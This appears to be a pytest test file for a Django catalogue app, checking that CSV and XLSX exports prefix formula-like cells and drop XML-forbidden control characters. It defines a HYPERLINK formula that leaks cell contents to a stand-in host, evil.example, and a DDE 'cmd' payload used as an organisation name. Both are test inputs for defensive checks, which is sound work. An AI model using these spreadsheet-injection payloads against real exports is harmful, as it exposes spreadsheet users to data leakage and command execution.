"""Exports are inert and well-formed whatever was typed: no live formulas, no XML-forbidden
control characters (gongkai.core.exports)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from gongkai.catalogue.models import CatalogueItem, Category
from gongkai.core.exports import csv_cell, xml_safe_text
from gongkai.core.tabular import write_xlsx
from gongkai.orgs.models import Org

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_a_spreadsheet_would_run_is_defused(start):
    assert csv_cell(start + "1+1") == "'" + start + "1+1"


def test_ordinary_text_numbers_and_dates_pass_unchanged():
    assert csv_cell("关于2025年预算的通知") == "关于2025年预算的通知"
    assert csv_cell(-5) == -5 and csv_cell(dt.date(2025, 1, 2)) == dt.date(2025, 1, 2)


def test_control_characters_xml_cannot_carry_are_dropped_and_newlines_kept():
    assert xml_safe_text("第一行\x0b第二\x00行\n第三行\t完") == "第一行第二行\n第三行\t完"


def test_write_xlsx_stores_formula_like_text_as_text_and_survives_control_characters():
    data = write_xlsx(["申请内容", "件数"], [[HOSTILE + "\x0b", 3], ["-负数开头的说明", -2]])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A2"].value == HOSTILE and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "-负数开头的说明" and sheet["A3"].data_type == "s"
    assert sheet["B3"].value == -2 and sheet["B3"].data_type == "n"


@pytest.fixture
def editor_client(client, db):
    org = Org.objects.create(code="edu", name="澜江市教育局", kind=Org.Kind.DEPARTMENT)
    category = Category.objects.create(org=org, name="工作动态类", slug="news")
    CatalogueItem.objects.create(
        org=org, category=category, title=HOSTILE + "\x0b标题", formed_on=dt.date(2025, 1, 1)
    )
    client.force_login(get_user_model().objects.create_superuser("root", "r@example.cn", "x"))
    return client


@pytest.mark.django_db
def test_the_catalogue_listing_exports_inert_csv_and_xlsx(editor_client):
    base = "/admin/snippets/catalogue/catalogueitem/"
    response = editor_client.get(base + "?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    titles = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert titles == ["'" + HOSTILE + "标题"]

    response = editor_client.get(base + "?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    assert sheet["B2"].value == HOSTILE + "标题" and sheet["B2"].data_type == "s"


@pytest.mark.django_db
def test_the_public_figures_csv_defuses_an_org_name(client):
    Org.objects.create(code="x", name="=cmd|' /C calc'!A0", kind=Org.Kind.GOVERNMENT)
    response = client.get("/stats/figures.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert any(row and row[1] == "'=cmd|' /C calc'!A0" for row in rows[1:]), rows
